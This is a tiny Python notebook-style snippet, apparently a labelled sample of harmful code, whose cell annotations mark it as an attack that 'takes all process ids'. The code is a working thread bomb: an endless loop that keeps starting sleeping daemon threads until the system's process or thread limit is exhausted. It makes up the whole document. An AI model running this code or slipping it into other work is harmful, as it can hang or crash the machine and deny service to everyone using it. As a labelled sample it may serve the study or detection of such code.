# %% [markdown] harm="takes all process ids"
# Starts threads without end.

# %% attack="last"
import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
